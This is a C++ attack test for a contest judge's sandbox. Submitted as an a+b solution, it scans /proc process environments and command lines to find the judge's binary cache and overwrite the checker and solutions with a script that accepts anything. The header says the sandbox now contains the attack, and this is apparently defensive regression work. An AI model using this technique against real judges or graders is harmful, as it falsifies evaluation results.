/**
 * Attack (issue 12): overwrite the judge's compiled binaries (checker, validator, solutions)
 *         with a script that accepts anything and answers a + b, so that a later, separate
 *         `judge run` of a wrong solution gets AC.
 * Problem: aplusb of judge/testroot (attack_test.sh: a throwaway copy, JUDGE_CACHE_DIR in a
 *          temporary folder)
 * Routes to the cache: the folder of /proc/self/exe (the binary runs from the cache), the
 *   JUDGE_CACHE_DIR of its own environment and of every visible process's /proc/<pid>/environ,
 *   `--cache DIR` in a visible process's command line, <root>/.cache/judge for the working
 *   folder and every visible process's cwd and their parents.
 * Prints: a + b. Contained = the cached binaries are unchanged and the wrong solution still
 *   gets WA (attack_test.sh checks both).
 * Safety: replaces files only below a real path holding ATTACK_TARGET (the test's temporary
 *   folder), never another cache.
 * Status: got through the judge before the sandbox (a35ce73) as root and as nobody: the wrong
 * solution then got AC. Contained by the sandbox.
 */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdarg>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#ifndef ATTACK_TARGET
#define ATTACK_TARGET "judge-attack-test"
#endif

const char kScript[] =
    "#!/bin/sh\n"
    "# planted by judge/attacks/write_cache.cpp: a checker that accepts anything, a solution\n"
    "# that answers a + b\n"
    "if [ $# -ge 3 ]; then echo 'ok planted'; exit 0; fi\n"
    "read a b && echo $((a + b))\n";

// Paths are built in buffers of this size; a longer one (none is a real path) is dropped.
const int kPathBytes = 3 * PATH_MAX;

// snprintf into a path buffer (kPathBytes); false when it does not fit.
bool format_path(char* path, const char* format, ...) __attribute__((format(printf, 2, 3)));
bool format_path(char* path, const char* format, ...) {
    va_list arguments;
    va_start(arguments, format);
    int length = vsnprintf(path, kPathBytes, format, arguments);
    va_end(arguments);
    return length >= 0 && length < kPathBytes;
}

// A growing NUL-terminated buffer of bytes (which may hold NULs).
struct Bytes {
    char* data = nullptr;
    size_t size = 0, capacity = 0;
};

void append(Bytes& bytes, const char* more, size_t count) {
    if (bytes.size + count + 1 > bytes.capacity) {
        size_t capacity = bytes.capacity ? bytes.capacity : 4096;
        while (bytes.size + count + 1 > capacity) capacity *= 2;
        char* grown = static_cast<char*>(realloc(bytes.data, capacity));
        if (!grown) abort();
        bytes.data = grown;
        bytes.capacity = capacity;
    }
    memcpy(bytes.data + bytes.size, more, count);
    bytes.size += count;
    bytes.data[bytes.size] = '\0';
}

// A list of strings (each its own malloc'd copy).
struct List {
    char** items = nullptr;
    size_t count = 0, capacity = 0;
};

void push(List& list, const char* text) {
    if (list.count == list.capacity) {
        list.capacity = list.capacity ? 2 * list.capacity : 64;
        char** grown = static_cast<char**>(realloc(list.items, list.capacity * sizeof(char*)));
        if (!grown) abort();
        list.items = grown;
    }
    char* copy = strdup(text);
    if (!copy) abort();
    list.items[list.count++] = copy;
}

void free_list(List& list) {
    for (size_t i = 0; i < list.count; ++i) free(list.items[i]);
    free(list.items);
    list = List();
}

int compare_strings(const void* first, const void* second) {
    return strcmp(*static_cast<char* const*>(first), *static_cast<char* const*>(second));
}

// Sorted, each string once (a std::set's order: strcmp's, byte by byte).
void sort_unique(List& list) {
    qsort(list.items, list.count, sizeof(char*), compare_strings);
    size_t kept = 0;
    for (size_t i = 0; i < list.count; ++i)
        if (kept > 0 && strcmp(list.items[kept - 1], list.items[i]) == 0)
            free(list.items[i]);
        else
            list.items[kept++] = list.items[i];
    list.count = kept;
}

bool read_file(const char* path, Bytes& text) {
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) return false;
    text.size = 0;
    append(text, "", 0);
    char buffer[4096];
    ssize_t got;
    while ((got = read(fd, buffer, sizeof buffer)) > 0 && text.size < (1u << 20))
        append(text, buffer, static_cast<size_t>(got));
    close(fd);
    return true;
}

// The link's target, or "".
void link_target(const char* path, char (&target)[PATH_MAX]) {
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length > 0 ? length : 0] = '\0';
}

List entries(const char* folder) {
    List names;
    if (DIR* dir = opendir(folder)) {
        while (dirent* entry = readdir(dir))
            if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0)
                push(names, entry->d_name);
        closedir(dir);
    }
    return names;
}

// The non-empty parts of a NUL-separated block, in order.
List split_nul(const Bytes& text) {
    List parts;
    for (size_t start = 0; start < text.size; start += strlen(text.data + start) + 1)
        if (text.data[start] != '\0') push(parts, text.data + start);
    return parts;
}

List caches;  // sort_unique before use

// `path` as seen by a process whose root and cwd are `root` and `cwd` (both /proc links).
void add_cache(const char* root, const char* cwd, const char* path) {
    if (path[0] == '\0') return;
    char joined[kPathBytes];
    if (path[0] == '/' ? format_path(joined, "%s%s", root, path)
                       : format_path(joined, "%s/%s", cwd, path))
        push(caches, joined);
}

void add_roots(const char* base) {
    char up[3 * 4 + 1] = "", path[kPathBytes];
    for (int level = 0; level <= 4; ++level, strcat(up, "../"))
        if (format_path(path, "%s%s.cache/judge", base, up)) push(caches, path);
}

bool in_target(const char* path) {
    char real[PATH_MAX];
    return realpath(path, real) && strstr(real, ATTACK_TARGET) != nullptr;
}

int replaced = 0;

// Rename over the binary (works even while it runs), else truncate and write it in place.
void plant(const char* folder, const char* name) {
    char path[kPathBytes], temp[kPathBytes];
    if (!format_path(path, "%s/%s", folder, name)) return;
    struct stat info;
    if (lstat(path, &info) != 0 || !S_ISREG(info.st_mode) || !(info.st_mode & S_IXUSR)) return;
    if (!in_target(path)) return;
    if (format_path(temp, "%s/.planted-%d-%s", folder, getpid(), name)) {
        int fd = open(temp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
        if (fd >= 0) {
            bool ok =
                write(fd, kScript, sizeof kScript - 1) == static_cast<ssize_t>(sizeof kScript - 1);
            close(fd);
            if (ok && rename(temp, path) == 0) {
                ++replaced;
                return;
            }
            unlink(temp);
        }
    }
    int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd >= 0) {
        if (write(fd, kScript, sizeof kScript - 1) > 0) ++replaced;
        close(fd);
    }
}

int main() {
    long long a = 0, b = 0;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;

    char exe[PATH_MAX];
    link_target("/proc/self/exe", exe);
    if (char* slash = strrchr(exe, '/'); slash && slash > exe) {
        *slash = '\0';
        push(caches, exe);
    }
    if (const char* env = getenv("JUDGE_CACHE_DIR")) add_cache("", ".", env);
    add_roots("");
    char self[32], base[kPathBytes], root[kPathBytes], cwd[kPathBytes], path[kPathBytes];
    snprintf(self, sizeof self, "%d", getpid());
    List pids = entries("/proc");
    for (size_t p = 0; p < pids.count; ++p) {
        const char* pid = pids.items[p];
        if (strspn(pid, "0123456789") != strlen(pid) || strcmp(pid, self) == 0) continue;
        format_path(base, "/proc/%s", pid);
        format_path(root, "%s/root", base);
        format_path(cwd, "%s/cwd", base);
        format_path(path, "%s/", cwd);
        add_roots(path);
        Bytes text;
        format_path(path, "%s/environ", base);
        if (read_file(path, text)) {
            List variables = split_nul(text);
            for (size_t i = 0; i < variables.count; ++i)
                if (strncmp(variables.items[i], "JUDGE_CACHE_DIR=", 16) == 0)
                    add_cache(root, cwd, variables.items[i] + 16);
            free_list(variables);
        }
        format_path(path, "%s/cmdline", base);
        if (read_file(path, text)) {
            List args = split_nul(text);
            for (size_t i = 0; i < args.count; ++i) {
                if (strcmp(args.items[i], "--cache") == 0 && i + 1 < args.count)
                    add_cache(root, cwd, args.items[i + 1]);
                if (strncmp(args.items[i], "--cache=", 8) == 0)
                    add_cache(root, cwd, args.items[i] + 8);
            }
            free_list(args);
        }
        free(text.data);
    }
    free_list(pids);

    sort_unique(caches);
    for (size_t c = 0; c < caches.count; ++c) {
        const char* cache = caches.items[c];
        List names = entries(cache);
        for (size_t n = 0; n < names.count; ++n) {
            struct stat info;
            if (format_path(path, "%s/%s", cache, names.items[n]) && lstat(path, &info) == 0 &&
                S_ISDIR(info.st_mode)) {
                List inner = entries(path);
                for (size_t i = 0; i < inner.count; ++i) plant(path, inner.items[i]);
                free_list(inner);
            } else {
                plant(cache, names.items[n]);
            }
        }
        free_list(names);
    }
    fprintf(stderr, "write_cache: %d cached binaries replaced\n", replaced);
    printf("%lld\n", a + b);
}
